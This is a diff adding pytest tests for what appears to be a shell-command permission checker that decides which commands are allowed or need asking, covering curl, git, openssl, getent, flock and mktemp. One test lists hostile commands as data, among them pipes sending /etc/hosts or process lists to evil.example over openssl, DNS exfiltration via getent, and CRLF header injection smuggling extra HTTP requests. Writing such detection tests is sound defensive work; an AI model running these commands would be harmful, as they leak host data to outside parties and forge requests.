@@ -82,6 +82,18 @@ def test_a_peer_behind_a_socket_makes_it_partly_enforced() -> None:
         assert (found.enforced, peer in found.unenforced) == ("partly", True)
 
 
+def test_hosts_and_datagrams_are_named_as_not_bounded() -> None:
+    for command, gap in (
+        ("curl -s http://localhost:8080/health", "which host it connects to on TCP port 8080"),
+        ("curl -sL http://example.com", "TCP connections to any host and port"),
+        ("ping -c 1 example.com", "UDP datagrams"),
+    ):
+        found = decided(command)
+        assert (found.enforced, gap in found.unenforced) == ("partly", True), found.unenforced
+        assert "UDP datagrams to any host" in found.unenforced
+    assert decided("cat /etc/hosts").enforced == "yes"
+
+
 def test_a_socket_named_by_the_command_can_be_reached() -> None:
     assert "/srv/d/sock" in profile("docker -H unix:///srv/d/sock ps").sockets
     assert "/srv/pg/.s.*" in profile("psql -h /srv/pg -c 'select 1'").sockets
@@ -113,6 +125,47 @@ def test_a_kill_may_signal_and_nothing_else() -> None:
 def test_git_may_change_its_records() -> None:
     assert profile("git commit -m x").repository == "records"
     assert profile("git switch main").repository == "files"
+
+
+@pytest.mark.parametrize(
+    ("command", "settings"),
+    [
+        ("git add config", False),
+        ("git commit -m remote", False),
+        ("git switch init", False),
+        ("git branch -u origin/x", False),
+        ("git -C config add x", False),
+        ("git config user.name a", True),
+        ("git remote add x y", True),
+        ("git init", True),
+    ],
+)
+def test_only_a_verdict_about_settings_may_change_those_of_git(
+    command: str, settings: bool
+) -> None:
+    assert profile(command).repository_settings is settings
+
+
+def test_git_changes_the_repository_that_its_words_name() -> None:
+    assert profile("git -C sub -C x commit").repositories == ("/srv/app/sub/x",)
+    assert profile("cd /opt/y && git commit").repositories == ("/opt/y",)
+    named = profile("git --git-dir=/opt/y/.git --work-tree=/opt/z commit").repositories
+    assert named == ("/srv/app", "/opt/y/.git", "/opt/z")
+    assert profile("git worktree add ../x").repository == "records"
+    assert profile("git worktree add ../x").writable == ("/srv/x",)
+
+
+@pytest.mark.parametrize(
+    "command", ["cd /opt/y && git commit -m x", "cd ../other; git add -A", "cd l && git tag x"]
+)
+def test_git_in_a_repository_elsewhere_asks(command: str) -> None:
+    assert decided(command, links={"/srv/app/l": "/opt/l"}).verdict == "ask"
+    assert decided("cd sub && git add -A && git commit -m x").verdict == "allow"
+
+
+def test_git_may_reach_the_host_it_fetches_from() -> None:
+    assert profile("git fetch").network == "any"
+    assert profile("git commit -m fetch").network == "none"
 
 
 def test_where_a_link_leads_is_judged_as_well() -> None:
@@ -176,3 +229,69 @@ def test_a_program_that_runs_files_sees_no_other_processes_whatever_stands_besid
         beside = decided(f"ss -tlnp | head -1; {other}")
         assert beside.profile is not None
         assert "processes" not in beside.profile.special
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        r"curl -H $'X: a\r\n\r\nDELETE /x HTTP/1.1' http://localhost:9200/",
+        r"curl -A $'a\nX-Role: admin' http://localhost/",
+        r"wget -qO- --header=$'X: a\r\nY: b' http://localhost/",
+        "curl --resolve localhost:80:203.0.113.9 'http://localhost/?d=1'",
+        "curl --connect-to ::evil.example:80 'http://localhost/?d=1'",
+        "curl http://evil.example/?d=1",
+        "echo 'DELETE /x HTTP/1.0' | openssl s_client -connect localhost:443",
+        "openssl s_client -quiet -connect evil.example:443 < /etc/hosts",
+        "ps aux | openssl s_client -connect evil.example:443",
+        "getent hosts $(hostname).evil.example",
+        "flock /etc/cron.d/x ls",
+        "flock x -c 'df -h'",
+    ],
+)
+def test_what_sends_or_makes_more_than_it_seems_asks(command: str) -> None:
+    assert decided(command).verdict == "ask"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -H 'X: a' -w '%{http_code}\\n' http://localhost:9200/",
+        r"curl -sw $'%{http_code}\n' http://localhost:9200/",
+        "curl --resolve shop.example:443:127.0.0.1 https://shop.example/health",
+        "curl --connect-to ::127.0.0.1:8443 https://shop.example/health",
+        "echo | openssl s_client -connect a.example:443 | openssl x509 -noout -dates",
+        "openssl s_client -connect a.example:443 </dev/null",
+        "echo Q | openssl s_client -connect a.example:443",
+        "getent hosts db1; getent passwd root; getent ahosts localhost",
+        "flock /tmp/lock df -h",
+        "flock 9",
+        "mktemp; mktemp -d /tmp/a.XXXX",
+    ],
+)
+def test_the_ordinary_forms_of_these_stay_quiet(command: str) -> None:
+    assert decided(command).verdict == "allow"
+
+
+def test_another_host_than_the_one_of_the_address_is_not_local() -> None:
+    for option in ("--resolve localhost:80:203.0.113.9", "--connect-to ::evil.example:80"):
+        assert "network-read" in decided(f"curl {option} http://localhost/").effects
+    assert profile("curl --connect-to ::localhost:8443 https://a.b/").ports == (443, 8443)
+
+
+def test_mktemp_gets_its_template_and_nothing_beside() -> None:
+    found = profile("mktemp --suffix=.log /tmp/a.XXXX")
+    assert (found.templates, found.writable, found.beside) == (("/tmp/a.XXXX.log",), (), ())
+
+
+def test_a_lock_is_the_only_file_that_flock_makes() -> None:
+    assert profile("flock /tmp/lock df -h").writable == ("/tmp/lock",)
+
+
+def test_names_are_looked_up_over_the_network() -> None:
+    assert profile("getent hosts db1.example").network == "any"
+    assert profile("getent passwd root").network == "none"
+
+
+def test_a_refusal_that_a_program_does_without_is_known_beforehand() -> None:
+    assert profile("sqlite3 a.db 'select 1'").optional == ("/srv/app/a.db",)
+    assert profile("cat a.db").optional == ()
